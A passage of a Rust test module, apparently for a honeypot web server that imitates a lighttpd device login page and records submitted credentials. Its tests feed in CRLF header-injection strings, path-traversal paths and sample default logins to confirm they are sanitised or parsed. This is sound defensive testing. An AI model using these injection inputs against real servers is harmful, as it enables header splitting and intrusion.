            Some("SESSIONID=0123456789abcdef; Path=/; HttpOnly")
        );
        assert_eq!(SESSION_COOKIE, "SESSIONID");
        // Nothing can break out of the header or the cookie value.
        let evil = respond(&get("/"), Some("a b;c\r\nX-Evil: 1\"\\,é"), true);
        let value = header(&evil, "Set-Cookie").unwrap();
        assert_eq!(value, "SESSIONID=abcX-Evil:1; Path=/; HttpOnly");
        let long = "x".repeat(1000);
        let capped = respond(&get("/"), Some(&long), true);
        assert_eq!(
            header(&capped, "Set-Cookie").map(str::len),
            Some("SESSIONID=; Path=/; HttpOnly".len() + 128)
        );
        let none = respond(&get("/"), Some(" ;\r\n"), true);
        assert_eq!(header(&none, "Set-Cookie"), None);
        assert_eq!(header(&respond(&get("/"), None, true), "Set-Cookie"), None);
        // Set on error pages and redirects too, when asked.
        let missing = respond(&get("/nope"), Some("abc"), true);
        assert_eq!(
            header(&missing, "Set-Cookie"),
            Some("SESSIONID=abc; Path=/; HttpOnly")
        );
        let moved = respond(&get("/main.html"), Some("abc"), true);
        assert_eq!(
            header(&moved, "Set-Cookie"),
            Some("SESSIONID=abc; Path=/; HttpOnly")
        );
    }

    #[test]
    fn error_pages() {
        for (status, reason) in [
            (400, "Bad Request"),
            (413, "Payload Too Large"),
            (431, "Request Header Fields Too Large"),
            (501, "Not Implemented"),
            (505, "HTTP Version Not Supported"),
        ] {
            let res = error_response(status);
            assert_eq!((res.status, res.reason), (status, reason));
            assert!(res.closes_connection());
            assert_eq!(header(&res, "Connection"), Some("close"));
            assert_eq!(header(&res, "Content-Type"), Some("text/html"));
            assert_eq!(header(&res, "Server"), Some("lighttpd/1.4.59"));
            let title = format!("<title>{status} {reason}</title>");
            assert!(body(&res).contains(&title), "{status}");
            assert_eq!(
                header(&res, "Content-Length"),
                Some(res.body.len().to_string().as_str())
            );
        }
        // A code lighttpd has no phrase for: "599 ", as lighttpd writes it.
        let odd = error_response(599);
        assert_eq!(odd.reason, "");
        assert!(body(&odd).contains("<title>599 </title>"));
        let mut wire = Vec::new();
        odd.encode(&mut wire);
        assert!(wire.starts_with(b"HTTP/1.1 599 \r\n"));
    }

    #[test]
    fn encoding() {
        let res = Response {
            status: 200,
            reason: "OK",
            headers: vec![
                ("Content-Type", "text/plain".to_owned()),
                ("X-Split", "a\r\nInjected: yes\0".to_owned()),
            ],
            body: b"hello".to_vec(),
        };
        let mut out = b"previous".to_vec();
        res.encode(&mut out);
        assert_eq!(
            out,
            b"previousHTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX-Split: aInjected: yes\r\n\
Content-Length: 5\r\n\r\nhello"
        );

        let page = respond(&get("/"), None, true);
        let mut wire = Vec::new();
        page.encode(&mut wire);
        let text = String::from_utf8(wire).unwrap();
        assert!(text.starts_with("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"));
        assert!(text.contains("\r\nServer: lighttpd/1.4.59\r\n\r\n<!DOCTYPE html>"));
        assert_eq!(text.matches("Content-Length").count(), 1);
        let (head, rest) = text.split_once("\r\n\r\n").unwrap();
        assert_eq!(rest.as_bytes(), page.body);
        assert!(head.contains(&format!("\r\nContent-Length: {}\r\n", page.body.len())));

        // HEAD keeps its Content-Length and sends no body.
        let head_res = respond(&req("HEAD / HTTP/1.1\r\nHost: h\r\n\r\n"), None, true);
        let mut wire = Vec::new();
        head_res.encode(&mut wire);
        let text = String::from_utf8(wire).unwrap();
        assert!(text.ends_with("\r\n\r\n"));
        assert!(text.contains(&format!("\r\nContent-Length: {}\r\n", page.body.len())));
    }

    #[test]
    fn login_attempt_variants() {
        let pairs = |r: &Request| login_attempt(r);
        let creds = |u: &str, p: &str| Some((u.to_owned(), p.to_owned()));
        assert_eq!(
            pairs(&post_form(
                "/login.cgi",
                "username=admin&password=1234&submit_flag=login"
            )),
            creds("admin", "1234")
        );
        assert_eq!(
            pairs(&post_form("/login.cgi", "user=root&pass=root")),
            creds("root", "root")
        );
        assert_eq!(
            pairs(&post_form("/login.cgi", "login=support&pwd=s%40pport+1")),
            creds("support", "s@pport 1")
        );
        assert_eq!(
            pairs(&post_form("/", "Username=a&PASSWD=b")),
            creds("a", "b")
        );
        assert_eq!(
            pairs(&post_form("/login.html", "usr=a&pw=b")),
            creds("a", "b")
        );
        // The form's own names win over a variant sent alongside.
        assert_eq!(
            pairs(&post_form(
                "/login.cgi",
                "login=Login&username=admin&password=x"
            )),
            creds("admin", "x")
        );
        assert_eq!(
            pairs(&post_form("/login.cgi", "password=only")),
            creds("", "only")
        );
        assert_eq!(
            pairs(&post_form("/login.cgi", "username=only")),
            creds("only", "")
        );
        assert_eq!(pairs(&post_form("/login.cgi", "foo=bar")), None);
        assert_eq!(
            pairs(&post_form("/elsewhere.cgi", "username=a&password=b")),
            None
        );
        assert_eq!(
            pairs(&get("/login.cgi?username=a&password=b")),
            creds("a", "b")
        );
        assert_eq!(pairs(&get("/?username=a&password=b")), None);
        assert_eq!(pairs(&get("/login.cgi")), None);
        // Query of a POST, when the body has no credentials.
        assert_eq!(
            pairs(&req(
                "POST /login.cgi?user=q&pass=w HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n"
            )),
            creds("q", "w")
        );
        // Without a Content-Type (hand-written scripts); not from JSON.
        assert_eq!(
            pairs(&req(
                "POST /login.cgi HTTP/1.1\r\nHost: h\r\nContent-Length: 21\r\n\r\nusername=a&password=b"
            )),
            creds("a", "b")
        );
        assert_eq!(
            pairs(&req(
                "POST /login.cgi HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\
Content-Length: 33\r\n\r\n{\"username\":\"a\",\"password\":\"b\"}  "
            )),
            None
        );
        // Chunked bodies count too.
        assert_eq!(
            pairs(&req(
                "POST /login.cgi HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n\
a\r\nusername=a\r\nb\r\n&password=b\r\n0\r\n\r\n"
            )),
            creds("a", "b")
        );
    }

    #[test]
    fn login_attempt_is_bounded() {
        let long_user = "u".repeat(1000);
        // 'é' is two bytes: 255 ASCII bytes then 'é' would end at byte 257.
        let long_pass = format!("{}{}", "p".repeat(255), "é".repeat(10));
        let form = format!("username={long_user}&password={long_pass}");
        let (user, pass) = login_attempt(&post_form("/login.cgi", &form)).unwrap();
        assert_eq!(user.len(), 256);
        assert_eq!(pass.len(), 255);
        assert!(pass.chars().all(|c| c == 'p'));
        let (_, pass) = login_attempt(&post_form("/login.cgi", "password=%FF%FE")).unwrap();
        assert_eq!(pass, "\\xff\\xfe", "exact bytes, not U+FFFD");
        // A cut never splits an escape: 254 bytes, then "\xff" would end at byte 258.
        let form = format!("password={}%FF", "p".repeat(254));
        let (_, pass) = login_attempt(&post_form("/login.cgi", &form)).unwrap();
        assert_eq!(pass, "p".repeat(254));
        let form = format!("password={}%5C%5C", "p".repeat(255));
        let (_, pass) = login_attempt(&post_form("/login.cgi", &form)).unwrap();
        assert_eq!(pass, "p".repeat(255));
    }

    #[test]
    fn every_method_and_path_mix_answers_without_panic() {
        let methods = [
            "GET", "HEAD", "POST", "OPTIONS", "PUT", "CONNECT", "get", "X",
        ];
        let paths = [
            "/",
            "*",
            "/login.cgi?username=%",
            "http://",
            "https://h",
            "/%",
            "/%e",
            "/..",
            "//..//../",
            "/\u{fffd}",
        ];
        for method in methods {
            for path in paths {
                for version in ["HTTP/1.0", "HTTP/1.1"] {
                    let r = req(&format!("{method} {path} {version}\r\nHost: h\r\n\r\n"));
                    for keep in [false, true] {
                        let res = respond(&r, Some("id"), keep);
                        assert!(!res.reason.is_empty());
                        assert!((200..600).contains(&res.status));
                        let mut wire = Vec::new();
                        res.encode(&mut wire);
                        assert!(wire.starts_with(b"HTTP/1.1 "));
                        if method == "HEAD" {
                            assert!(res.body.is_empty());
                        }
                    }
                    let _ = login_attempt(&r);
                }
            }
        }
    }
}
